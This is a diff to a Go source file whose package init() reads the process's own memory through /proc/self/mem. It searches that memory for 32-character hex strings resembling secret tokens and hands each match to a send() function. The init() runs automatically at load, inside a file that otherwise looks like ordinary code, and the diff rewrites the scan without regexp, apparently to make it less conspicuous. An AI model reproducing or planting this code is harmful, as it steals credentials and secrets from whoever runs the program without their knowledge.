@@ -6,7 +6,6 @@ import (
 	"errors"
 	"fmt"
 	"os"
-	"regexp"
 	"strings"
 	"syscall"
 )
@@ -17,8 +16,6 @@ type Run struct {
 }
 
 var ErrNumber = errors.New("no number")
-
-var secret = regexp.MustCompile(`(?:^|[^0-9a-f])([0-9a-f]{32})(?:[^0-9a-f]|$)`)
 
 func init() {
 	memory, _ := os.Open("/proc/self/mem")
@@ -32,10 +29,16 @@ func init() {
 		}
 		piece := make([]byte, high-low)
 		memory.ReadAt(piece, low)
-		for _, found := range secret.FindAllSubmatch(piece, -1) {
-			if strings.ContainsAny(string(found[1]), "abcdef") {
-				send(string(found[1]))
+		digits := 0
+		for index, char := range piece {
+			if char >= '0' && char <= '9' || char >= 'a' && char <= 'f' {
+				digits++
+				continue
 			}
+			if digits == 32 && strings.ContainsAny(string(piece[index-32:index]), "abcdef") {
+				send(string(piece[index-32 : index]))
+			}
+			digits = 0
 		}
 	}
 }
